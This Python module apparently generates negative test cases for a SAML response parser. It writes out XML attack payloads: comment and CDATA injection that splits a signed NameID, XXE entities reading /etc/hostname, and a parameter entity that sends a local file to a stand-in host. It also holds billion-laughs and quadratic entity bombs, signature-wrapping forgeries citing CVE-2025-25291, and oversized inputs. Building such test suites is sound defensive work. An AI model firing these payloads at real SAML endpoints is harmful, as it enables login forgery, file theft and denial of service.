"""Documents that no XML parser, or no careful one, may take: comments, DTDs, broken markup, odd encodings, sizes."""

import zlib

from . import message as m
from . import sign as s
from .case import attack, build, change, recipe, spoiled, to_base64
from .wrapping import VICTIM, before, cut_signature, forge, genuine

RESPONSE_END = "</samlp:Response>"
LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {chr(98 + i)} "{"&" + chr(97 + i) + ";" :s}{("&" + chr(97 + i) + ";") * 9}">'
        for i in range(9)
    )
    + "]>"
)


def put_edited(name, kind, why, edit, also=(), base="response-signed"):
    attack(name, kind, why, edit(genuine(base)), also=also, base=base)


def add_comments():
    """Canonicalization drops comments: the signature over the longer text stays right when one is put in."""

    def put(name, why, where, **fields):
        for signed in ("response", "assertion"):
            full = f"comment-{name}-{signed}"
            _, xml = build(full, signed, **fields)
            attack(
                full,
                "forbidden_xml",
                f"{why} ({signed} signed; the signature stays valid).",
                change(xml, where),
                base=f"{signed}-signed",
            )

    put(
        "name-id",
        "A comment cuts the NameID root@example.test.evil.test in two",
        (">root@example.test.evil.test<", ">root@example.test<!---->.evil.test<"),
        name_id="root@example.test.evil.test",
    )
    put(
        "group",
        "A comment cuts the group admins-of-nothing in two",
        (">admins-of-nothing<", ">admins<!-- -->-of-nothing<"),
        attributes=[m.Attr("groups", ["admins-of-nothing"])],
    )
    put(
        "audience",
        "A comment cuts the Audience, which continues ours, in two",
        (f"<saml:Audience>{m.SP_ENTITY}.evil.test<", f"<saml:Audience>{m.SP_ENTITY}<!--x-->.evil.test<"),
        audiences=[[m.SP_ENTITY + ".evil.test"]],
    )
    put_edited(
        "comment-issuer",
        "forbidden_xml",
        "A comment stands in an Issuer.",
        lambda x: x.replace("</saml:Issuer>", "<!--x--></saml:Issuer>", 1),
    )
    put_edited(
        "comment-between",
        "forbidden_xml",
        "A comment stands between two elements.",
        lambda x: x.replace("<samlp:Status>", "<!--x--><samlp:Status>", 1),
    )
    put_edited(
        "comment-before-root", "forbidden_xml", "A comment stands before the root.", lambda x: "<!--x-->" + x
    )

    put_edited(
        "comment-in-signature-value",
        "forbidden_xml",
        "A comment stands in SignatureValue.",
        lambda x: x.replace("<ds:SignatureValue>", "<ds:SignatureValue><!--x-->"),
    )
    put_edited(
        "cdata-name-id",
        "forbidden_xml",
        "The NameID is written as a CDATA section; the signature stays valid.",
        lambda x: x.replace(
            ">alice@example.test</saml:NameID>", "><![CDATA[alice@example.test]]></saml:NameID>"
        ),
    )

    put_edited(
        "pi-before-root",
        "forbidden_xml",
        "A processing instruction stands before the root.",
        lambda x: '<?xml-stylesheet href="http://fetch.example.test/x"?>' + x,
    )

    for signed in ("response", "assertion"):
        spoiled(
            f"pi-signed-{signed}",
            "forbidden_xml",
            "The IdP signed a NameID with a processing instruction in it.",
            signed,
            name_id="alice@<?x?>example.test",
        )


def add_dtds():
    put_edited(
        "dtd-empty",
        "forbidden_xml",
        "A DOCTYPE without declarations.",
        lambda x: "<!DOCTYPE samlp:Response>" + x,
    )

    put_edited(
        "dtd-lower-case",
        "forbidden_xml",
        "DOCTYPE in lower case, which is no XML.",
        lambda x: "<!doctype html>" + x,
        also=["malformed"],
    )
    put_edited(
        "dtd-after-root",
        "forbidden_xml",
        "A DOCTYPE after the root.",
        lambda x: x + "<!DOCTYPE samlp:Response>",
        also=["malformed"],
    )
    base, xml = "response-signed", genuine("response-signed")

    def put(name, why, text, also=()):
        attack(f"dtd-{name}", "forbidden_xml", why, text, base=base, also=also)

    named = xml.replace(">alice@example.test</saml:NameID>", ">&e;</saml:NameID>")
    put(
        "internal-entity",
        "An internal entity holds the NameID.",
        '<!DOCTYPE r [<!ENTITY e "alice@example.test">]>' + named,
    )
    put(
        "internal-entity-forged",
        "An internal entity holds another NameID.",
        f'<!DOCTYPE r [<!ENTITY e "{VICTIM}">]>' + named,
    )
    put(
        "external-entity-file",
        "An external entity is a local file.",
        '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>' + named,
    )
    put(
        "external-entity-http",
        "An external entity is at a server.",
        '<!DOCTYPE r [<!ENTITY e SYSTEM "http://fetch.example.test/x">]>' + named,
    )
    put(
        "external-dtd-http",
        "The DTD itself is at a server.",
        '<!DOCTYPE r SYSTEM "http://fetch.example.test/x.dtd">' + xml,
    )

    put(
        "parameter-entity",
        "A parameter entity of a server is used in the internal subset.",
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://fetch.example.test/p"> %p;]>' + xml,
    )
    put(
        "parameter-entity-nested",
        "Parameter entities make an entity that sends a file to a server.",
        '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d "<!ENTITY &#37; x SYSTEM'
        " 'http://fetch.example.test/?%f;'>\">%d;%x;]>" + xml,
    )
    put(
        "billion-laughs", "Ten entities, each ten times the one before.", LAUGHS + named.replace("&e;", "&j;")
    )
    put(
        "quadratic",
        "One entity of 5,000 letters used 500 times.",
        '<!DOCTYPE r [<!ENTITY e "' + "a" * 5000 + '">]>' + named.replace("&e;", "&e;" * 500),
    )
    put(
        "entity-recursive",
        "Two entities that hold each other.",
        '<!DOCTYPE r [<!ENTITY e "&f;"><!ENTITY f "&e;">]>' + named,
    )
    put(
        "attlist-default",
        "An ATTLIST gives Status a default attribute ID.",
        f'<!DOCTYPE r [<!ATTLIST samlp:Status ID ID "{m.make_id(base, "response")}">]>' + xml,
    )

    evil = forge(xml)
    wrapped = evil.replace("</saml:Issuer>", "</saml:Issuer>" + cut_signature(xml), 1)
    put(
        "quotes",
        "A DOCTYPE with quote tricks hides one of two documents from one of two parsers (CVE-2025-25291).",
        "<!DOCTYPE r [<!ENTITY q '\"><!--'>]>" + wrapped + "<!--'>-->",
        also=["malformed"],
    )
    put(
        "quotes-system",
        "A DOCTYPE whose system identifier holds a whole forged Response (CVE-2025-25291).",
        "<!DOCTYPE r SYSTEM '" + wrapped.replace("'", "") + "'>" + xml,
    )
    put(
        "comment-in-subset",
        "The internal subset has a comment that holds a forged Response.",
        "<!DOCTYPE r [<!-- " + evil.replace("--", "") + " -->]>" + xml,
    )
    for name, reference in (("undeclared", "&e;"), ("html", "&nbsp;")):
        attack(
            f"entity-{name}",
            "forbidden_xml",
            f"The NameID is {reference}, an entity that nothing declares.",
            named.replace("&e;", reference),
            base=base,
            also=["malformed"],
        )


def add_broken():
    base, xml = "response-signed", genuine("response-signed")

    def put(name, why, text, also=()):
        attack(f"parser-{name}", "malformed", why, text, base=base, also=also)

    evil = forge(xml)
    put("second-root", "A forged Response follows the signed one as a second root.", xml + evil)

    put("no-end-tag", "The root's end tag is missing.", xml[: -len(RESPONSE_END)])
    put("cut", "The document ends in the middle.", xml[: len(xml) // 2])
    put("junk-after", "Text follows the root.", xml + "junk")

    put(
        "blank-before-declaration",
        "A line feed stands before the XML declaration.",
        '\n<?xml version="1.0"?>' + xml,
        also=["forbidden_xml"],
    )

    put(
        "declaration-inside",
        "An XML declaration within Status.",
        xml.replace("<samlp:Status>", '<samlp:Status><?xml version="1.0"?>'),
        also=["forbidden_xml"],
    )
    put(
        "declaration-version-1-1",
        "An XML declaration of version 1.1.",
        '<?xml version="1.1"?>' + xml,
        also=["forbidden_xml"],
    )
    put(
        "end-tag-mismatch",
        "An end tag has another name.",
        change(xml, ("</samlp:Status>", "</samlp:status>")),
    )
    put(
        "end-tags-crossed",
        "Two end tags are crossed.",
        change(
            xml,
            ("</saml:NameID><saml:SubjectConfirmation ", "<saml:SubjectConfirmation "),
            ("</saml:SubjectConfirmation>", "</saml:NameID></saml:SubjectConfirmation>"),
        ),
    )
    put(
        "duplicate-attribute",
        "An attribute stands twice, with the forged value second.",
        change(
            xml,
            (f' Destination="{m.ACS}"', f' Destination="{m.ACS}" Destination="https://evil.example.test"'),
        ),
    )
    put(
        "duplicate-attribute-id",
        "The ID attribute stands twice.",
        xml.replace(
            f' ID="{m.make_id(base, "response")}"', f' ID="_other" ID="{m.make_id(base, "response")}"'
        ),
        also=["structure"],
    )
    put(
        "duplicate-attribute-by-namespace",
        "Two prefixes of one namespace give the Response the same attribute twice.",
        change(
            genuine("assertion-signed"),
            ("<samlp:Response ", '<samlp:Response xmlns:v="urn:v" xmlns:w="urn:v" v:a="1" w:a="2" '),
        ),
    )
    put(
        "undeclared-prefix",
        "An element has a prefix that nothing declares.",
        xml.replace("<samlp:Status>", "<samlp:Status><u:x/>"),
    )
    put(
        "undeclared-prefix-attribute",
        "An attribute has a prefix that nothing declares.",
        xml.replace("<samlp:Status>", '<samlp:Status u:x="y">'),
    )
    put(
        "undeclared-end",
        "The declaration of saml is taken away.",
        xml.replace(f' xmlns:saml="{m.SAML}"', "", 1),
    )
    put(
        "two-colons",
        "An element's name has two colons.",
        xml.replace("<samlp:Status>", "<samlp:Status><samlp:a:b/>"),
    )
    put(
        "prefix-undeclared",
        'A prefix is declared as "", which XML 1.0 forbids.',
        xml.replace("<samlp:Status>", '<samlp:Status xmlns:v="">'),
        also=["forbidden_xml"],
    )
    put(
        "prefix-xml-rebound",
        "The prefix xml is bound to another namespace.",
        xml.replace("<samlp:Status>", '<samlp:Status xmlns:xml="urn:x">'),
        also=["forbidden_xml"],
    )

    put(
        "attribute-unquoted",
        "An attribute without quotes.",
        change(xml, (f'Destination="{m.ACS}"', f"Destination={m.ACS}")),
    )
    put(
        "less-than-in-attribute",
        "A less-than sign in an attribute's value.",
        change(xml, (f'Destination="{m.ACS}"', f'Destination="{m.ACS}<"')),
    )
    put(
        "ampersand-alone",
        "An ampersand that begins no reference.",
        xml.replace(">staff<", ">st&aff<"),
        also=["forbidden_xml"],
    )

    put(
        "reference-out-of-range",
        "A character reference beyond Unicode.",
        xml.replace(">staff<", ">&#x110000;<"),
        also=["forbidden_xml"],
    )
    for number in ("0", "x1", "xFFFE"):
        put(
            f"reference-to-{number}",
            f"The character reference &#{number};, which is no character of XML.",
            xml.replace(">staff<", f">&#{number};<"),
            also=["forbidden_xml"],
        )
    data = xml.encode()
    put("nul-before", "A byte of zero before the root.", b"\x00" + data)
    put("nul-after", "A byte of zero after the root.", data + b"\x00")
    put(
        "nul-in-name",
        "A byte of zero cuts the NameID.",
        data.replace(b">alice@example.test</saml:NameID>", b">root\x00alice@example.test</saml:NameID>"),
    )
    for code in (0x01, 0x0B, 0x1B):
        put(
            f"control-{code:02x}",
            f"The control character {code:#04x} in a value.",
            data.replace(b">staff<", b">st" + bytes([code]) + b"aff<"),
        )
    put("noncharacter", "The character U+FFFF in a value.", xml.replace(">staff<", ">\uffff<"))
    for name, wrong in (
        ("overlong", b"\xc0\xaf"),
        ("surrogate", b"\xed\xa0\x80"),
        ("cut", b"\xe2\x82"),
        ("latin-1", b"\xe9"),
    ):
        put(
            f"utf8-{name}",
            f"Octets in a value that are no UTF-8 ({name}).",
            data.replace(b">staff<", b">st" + wrong + b"<"),
        )
    put("utf16-le", "UTF-16, little-endian, with byte order mark.", b"\xff\xfe" + xml.encode("utf-16-le"))
    put("utf16-be", "UTF-16, big-endian, with byte order mark.", b"\xfe\xff" + xml.encode("utf-16-be"))
    put(
        "utf16-no-mark",
        "UTF-16 without byte order mark.",
        ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16-le"),
    )
    put(
        "utf7",
        "UTF-7 by declaration, with markup hidden in a value.",
        '<?xml version="1.0" encoding="UTF-7"?>' + xml.replace(">staff<", ">+ADw-x/+AD4-<"),
        also=["forbidden_xml"],
    )
    put(
        "utf16-declared",
        "UTF-8 that declares UTF-16.",
        '<?xml version="1.0" encoding="UTF-16"?>' + xml,
        also=["forbidden_xml"],
    )
    put(
        "latin-1-declared",
        "ISO-8859-1 by declaration.",
        '<?xml version="1.0" encoding="ISO-8859-1"?>' + xml,
        also=["forbidden_xml"],
    )

    put("empty", "An empty document.", "")

    put("declaration-alone", "An XML declaration and nothing else.", '<?xml version="1.0"?>')
    put(
        "html",
        "An HTML page.",
        "<!DOCTYPE html><html><head><title>Sign in</title><body><p>Session expired<br></body></html>",
        also=["forbidden_xml", "structure"],
    )
    spoiled(
        "parser-cdata-end-in-text",
        "malformed",
        "The text ]]> in a value, which XML forbids; rightly signed.",
        also=["forbidden_xml"],
        attributes=[m.Attr("groups", raw="<saml:AttributeValue>a]]&gt;b</saml:AttributeValue>")],
        edit=lambda x: x.replace("]]&gt;", "]]>"),
    )


def add_fields():
    base, xml = "response-signed", genuine("response-signed")
    text = to_base64(xml)
    deflated = s.encode(zlib.compress(xml.encode(), 9)[2:-4])
    for name, why, field in (
        (
            "url-alphabet",
            "The form field has the alphabet of base64url.",
            (
                text.replace("+", "-").replace("/", "_").replace("=", "")
                if set("+/=") & set(text)
                else text[:-1] + "-"
            ),
        ),
        ("padding-missing", "The padding of the base64 text is missing.", to_base64(padded(xml)).rstrip("=")),
        ("padding-too-much", "The base64 text has padding too much.", text + "===="),
        ("padding-inside", "The base64 text has padding in the middle.", text[:400] + "==" + text[400:]),
        ("bad-letter", "A letter of the base64 text is a star.", text[:400] + "*" + text[401:]),
        (
            "percent",
            "The base64 text is percent-encoded twice.",
            text.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D") + "%3D",
        ),
        ("plain-xml", "The form field is XML without base64.", xml),
        ("deflated", "The message is deflated, as the Redirect binding wants, and posted.", deflated),
        ("base64-twice", "The message is base64 of base64.", to_base64(text)),
        ("empty", "The form field is empty.", ""),
        ("nul", "The form field has a byte of zero after the base64 text.", text + "\x00"),
    ):
        attack(f"field-{name}", "malformed", why, xml, base=base, field=field, encoding=why)


def padded(xml):
    """The message with blanks behind it until its base64 text needs padding."""
    while len(xml.encode()) % 3 == 0:
        xml += "\n"
    return xml


def add_sizes():
    """Recipes; where the message allows it the genuine signature of the Assertion stays valid, and size is the only fault."""
    base, xml = "assertion-signed", genuine("assertion-signed")
    also = ["malformed"]

    def put(name, why, text, piece, also=()):
        attack(name, "too_large", why, text, base=base, also=also, repeated=piece)

    def extended(body):
        return before(
            xml, "<samlp:Status>", f'<samlp:Extensions xmlns:v="urn:example:v">{body}</samlp:Extensions>'
        )

    put(
        "size-name-id-3mb",
        "An unsigned NameID of 3 MB.",
        xml.replace(cut_signature(xml), "").replace(
            ">alice@example.test</saml:NameID>", ">" + "a" * 3_000_000 + "</saml:NameID>"
        ),
        "a" * 10,
    )
    put(
        "size-blanks-600kb",
        "600 kB of blanks after the root; the signature stays valid.",
        xml + " " * 600_000,
        " " * 10,
    )
    put(
        "size-450kb",
        "450 kB of text in Extensions: the form field is above its bound.",
        extended("<v:x>" + "abcde" * 90_000 + "</v:x>"),
        "abcde",
    )
    field = to_base64(xml)
    attack(
        "size-field-blanks-600kb",
        "too_large",
        "600 kB of line feeds after the base64 text.",
        None,
        base=base,
        generate=recipe(field + "\n" * 600_000, "\n", "field"),
    )
    put(
        "size-depth-20000",
        "20,000 elements, one in the other; not closed.",
        xml.replace("<samlp:Status>", "<samlp:Status>" + "<x>" * 20_000),
        "<x>",
        also,
    )
    for depth in (60, 1000):
        attack(
            f"size-depth-{depth}",
            "too_large",
            f"{depth} elements, one in the other, in Extensions; the signature stays valid.",
            base=base,
            also=also,
            generate={"target": "xml", "parts": nested(extended("[[here]]"), depth)},
        )
    put(
        "size-elements-25000",
        "25,000 elements beside each other in Extensions; the signature stays valid.",
        extended("<v:x/>" * 25_000),
        "<v:x/>",
        also,
    )
    many = "".join(f' a{i}="x"' for i in range(60))
    attack(
        "size-attributes-60",
        "too_large",
        "60 attributes at one element of Extensions; the signature stays valid.",
        extended(f"<v:x{many}/>"),
        base=base,
        also=also,
    )
    put(
        "size-attributes-10000",
        "The attribute x 10,000 times at one element.",
        extended("<v:x" + ' x="y"' * 10_000 + "/>"),
        ' x="y"',
        also,
    )
    names = "".join(f' xmlns:n{i}="urn:n:{i}"' for i in range(60))
    attack(
        "size-namespaces-60",
        "too_large",
        "60 namespace declarations at the root; the signature stays valid.",
        xml.replace("<samlp:Response ", f"<samlp:Response{names} "),
        base=base,
        also=also,
    )
    put(
        "size-namespaces-5000",
        "5,000 elements, each with a namespace declaration of its own, one in the other.",
        extended('<v:x xmlns:n="urn:n">' * 5000),
        '<v:x xmlns:n="urn:n">',
        also,
    )
    put(
        "size-start-tag-5kb",
        "A start tag of more than 5 kB in Extensions; the signature stays valid.",
        extended(f'<v:x a="{"b" * 5200}"/>'),
        "b" * 10,
        also,
    )
    put(
        "size-attribute-300kb",
        "An attribute of 300 kB.",
        extended(f'<v:x a="{"b" * 300_000}"/>'),
        "b" * 10,
        also,
    )
    put("size-name-150kb", "An element's name of 150 kB.", extended(f'<v:x{"b" * 150_000}/>'), "b" * 10, also)
    put(
        "size-prefix-list",
        "An InclusiveNamespaces with a PrefixList of 6,000 prefixes.",
        xml.replace(
            f'<ds:Transform Algorithm="{s.EXC_C14N}"/>',
            f'<ds:Transform Algorithm="{s.EXC_C14N}"><ec:InclusiveNamespaces xmlns:ec="{s.EXC_C14N}" '
            f'PrefixList="{"saml " * 6000}"/></ds:Transform>',
        ),
        "saml ",
        also,
    )
    put(
        "size-base64-digest",
        "A DigestValue of 200 kB.",
        xml.replace("<ds:DigestValue>", "<ds:DigestValue>" + "AAAA" * 50_000),
        "AAAA",
        ["signature_policy", "signature_invalid"],
    )


def nested(text, depth):
    head, tail = text.split("[[here]]")
    return [
        {"text": head},
        {"repeat": "<v:x>", "times": depth},
        {"repeat": "</v:x>", "times": depth},
        {"text": tail},
    ]


def add_all():
    add_comments()
    add_dtds()
    add_broken()
    add_fields()
    add_sizes()
